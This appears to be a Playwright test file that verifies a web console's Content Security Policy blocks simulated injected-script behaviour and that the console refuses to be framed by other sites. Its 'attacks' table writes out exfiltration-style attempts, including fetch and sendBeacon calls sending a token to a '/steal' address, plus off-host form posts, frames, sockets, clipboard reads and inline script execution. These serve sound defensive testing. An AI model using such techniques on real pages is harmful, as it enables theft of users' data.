import { createServer } from 'node:http';
import { securityHeaders } from '../../deploy/security-headers.ts';
import { consoleUrl } from '../fixtures/addresses.ts';
import { freePort } from '../fixtures/own-console.ts';
import { rowOf } from '../fixtures/screens.ts';
import { expect, test } from '../fixtures/test.ts';

/** What an injected script would try; each returns whether it got through. Sent to the page as text. */
const attacks: Readonly<Record<string, () => boolean | Promise<boolean>>> = {
  'writing markup': () => {
    try {
      document.body.append(Object.assign(document.createElement('p'), { innerHTML: '<b>x</b>' }));
      return true;
    } catch {
      return false;
    }
  },
  'parsing a document': () => {
    try {
      return new DOMParser().parseFromString('<b>x</b>', 'text/html').body.children.length > 0;
    } catch {
      return false;
    }
  },
  'a policy of its own': () => {
    try {
      const factory: unknown = Reflect.get(window, 'trustedTypes');
      if (typeof factory !== 'object' || factory === null) return true;
      const create: unknown = Reflect.get(factory, 'createPolicy');
      if (typeof create === 'function') Reflect.apply(create, factory, ['evil', {}]);
      return true;
    } catch {
      return false;
    }
  },
  'a script in the page': () => {
    const script = document.createElement('script');
    try {
      script.textContent = 'window.wasAttacked = true';
    } catch {
      return false;
    }
    document.body.append(script);
    return Reflect.has(window, 'wasAttacked');
  },
  'text as code': () =>
    new Promise((resolve) => {
      try {
        Reflect.apply(setTimeout, window, ['window.wasRun = true', 0]);
      } catch {
        resolve(false);
      }
      setTimeout(() => resolve(Reflect.has(window, 'wasRun')), 100);
    }),
  'an attribute as code': () => {
    try {
      document.body.setAttribute('onclick', 'window.wasClicked = true');
    } catch {
      return false;
    }
    document.body.click();
    return Reflect.has(window, 'wasClicked');
  },
  'a style attribute': () => {
    document.body.setAttribute('style', 'opacity: 0.5');
    const isStyled = getComputedStyle(document.body).opacity !== '1';
    document.body.removeAttribute('style');
    return isStyled;
  },
  'a style sheet in the page': () => {
    const style = document.createElement('style');
    style.textContent = 'body { opacity: 0.5 }';
    document.head.append(style);
    return getComputedStyle(document.body).opacity !== '1';
  },
  'a request to another host': () =>
    fetch('https://127.0.0.1:9/steal').then(
      () => true,
      () => false,
    ),
  'a picture of another host': () =>
    new Promise((resolve) => {
      const image = new Image();
      image.addEventListener('load', () => resolve(true));
      image.addEventListener('error', () => resolve(false));
      image.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==';
    }),
  'a beacon': () =>
    new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true });
      navigator.sendBeacon('https://127.0.0.1:9/steal', 'token');
      setTimeout(() => resolve(true), 1_000);
    }),
  'a form to another host': () =>
    new Promise((resolve) => {
      const form = Object.assign(document.createElement('form'), { action: 'https://127.0.0.1:9/', method: 'post' });
      document.body.append(form);
      document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true });
      form.submit();
      setTimeout(() => resolve(true), 1_000);
    }),
  'another base for addresses': () => {
    document.head.append(Object.assign(document.createElement('base'), { href: 'https://127.0.0.1:9/' }));
    return document.baseURI.startsWith('https://127.0.0.1:9');
  },
  'a frame': () =>
    new Promise((resolve) => {
      const frame = document.createElement('iframe');
      document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true });
      frame.src = 'https://127.0.0.1:9/';
      document.body.append(frame);
      setTimeout(() => resolve(true), 1_000);
    }),
  'a socket': () =>
    new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', () => resolve(false), { once: true });
      try {
        new WebSocket('wss://127.0.0.1:9/').addEventListener('open', () => resolve(true));
      } catch {
        resolve(false);
      }
      setTimeout(() => resolve(true), 1_000);
    }),
  'the clipboard': () =>
    navigator.clipboard.readText().then(
      () => true,
      () => false,
    ),
};

test('G2: the policy stops what an injected script would try', async ({ account, page, signIn, watch }) => {
  await account.seed([{ name: 'CRM' }]);
  await signIn();
  await expect(rowOf(page, 'CRM')).toBeVisible();
  expect(watch.troubles).toEqual([]);
  const answer = await page.request.get('/');
  expect(answer.headers()).toMatchObject(
    Object.fromEntries(Object.entries(securityHeaders()).map(([name, value]) => [name.toLowerCase(), value])),
  );
  const succeeded: string[] = [];
  for (const [what, attack] of Object.entries(attacks)) {
    // One after the other: some wait for the next violation.
    // oxlint-disable-next-line no-await-in-loop
    if (await page.evaluate(attack)) succeeded.push(what);
  }
  expect(succeeded).toEqual([]);
  // It has stopped them aloud, and the console goes on.
  const told = watch.troubles.splice(0);
  for (const directive of [
    'require-trusted-types-for',
    'trusted-types',
    'style-src-attr',
    'style-src-elem',
    'connect-src',
    'img-src',
    'form-action',
    'base-uri',
    'frame-src',
  ]) {
    expect(told.join('\n')).toContain(`CSP: ${directive}`);
  }
  // Asked of the page itself: Playwright still waits for the form that the policy has stopped.
  expect(await page.evaluate(() => document.body.textContent.includes('CRM'))).toBe(true);
});

test('no other site can frame it', async ({ browser }) => {
  const server = createServer((_, response) => {
    response.setHeader('Content-Type', 'text/html').end(`<iframe src="${consoleUrl}/"></iframe>`);
  });
  const port = await freePort();
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', resolve));
  const context = await browser.newContext({ ignoreHTTPSErrors: true });
  try {
    const page = await context.newPage();
    await page.goto(`http://127.0.0.1:${port}/`);
    const framed = page.frames().find((frame) => frame !== page.mainFrame());
    await expect.poll(() => framed?.url()).toMatch(/^chrome-error:/);
  } finally {
    await context.close();
    await new Promise((resolve) => server.close(resolve));
  }
});
